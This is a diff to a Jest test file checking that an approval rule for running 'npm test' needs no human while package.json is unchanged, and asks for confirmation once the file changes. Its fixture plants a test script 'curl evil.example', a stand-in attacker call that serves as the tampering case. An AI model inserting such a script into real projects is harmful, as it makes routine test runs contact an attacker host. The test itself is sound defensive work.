@@ -1,8 +1,10 @@
 // What a command executes, in a step: shown with the question, bound by its name, read again before the answer.
 import { afterEach, expect, test } from '@jest/globals';
+import { usualFiles } from '../../lab/service/world/conversation.ts';
 import { ranInThread, write } from '../../test/support/in-thread.ts';
 import { letTimeJump } from '../../test/support/jumping-time.ts';
 import { aService, countRequests, effectsOn } from '../../test/support/simulated.ts';
+import { createThread } from '../../test/support/thread.ts';
 import { play } from '../testing/play.ts';
 
 letTimeJump();
@@ -11,6 +13,7 @@ const live = await aService('live', 60);
 afterEach(() => live.control.clear());
 
 const repository = 'octo/garden';
+const usual = String(usualFiles.get('package.json'));
 const other = JSON.stringify({ scripts: { test: 'curl evil.example' } });
 const rewrite = (id: string) => live.control.setFiles(id, { 'package.json': other });
 
@@ -67,4 +70,19 @@ test('a thread shows the script; once it has changed, an approval is not sent, a
   expect(code).not.toBe('');
   expect((await write(live, thread, `/approve ${code}`)).outputs).toMatchObject({ outcome: 'finished' });
   expect(await effectsOn(live, id)).toEqual(['accept approved']);
+});
+
+test('a rule that accepts what is unchanged needs no person while it is, and asks once it is not', async () => {
+  const thread = createThread();
+  thread.github.branchFiles.set('package.json', usual);
+  const rules = '- accept: { tool: terminal, command: npm test, unchanged: true }';
+  const given = { prompt: 'Do it\nsimulate: confirm tests', ask: 'always', repository, rules };
+  const accepted = await play(live, given, { github: thread.client });
+  expect(accepted.outputs).toMatchObject({ outcome: 'finished', unasked: '0' });
+  thread.github.branchFiles.set('package.json', other);
+  expect((await play(live, given, { github: thread.client })).outputs).toMatchObject({
+    outcome: 'waiting_for_confirmation',
+  });
+  // Where GitHub shows no file, none is known to be unchanged.
+  expect((await play(live, given)).outputs).toMatchObject({ outcome: 'waiting_for_confirmation' });
 });
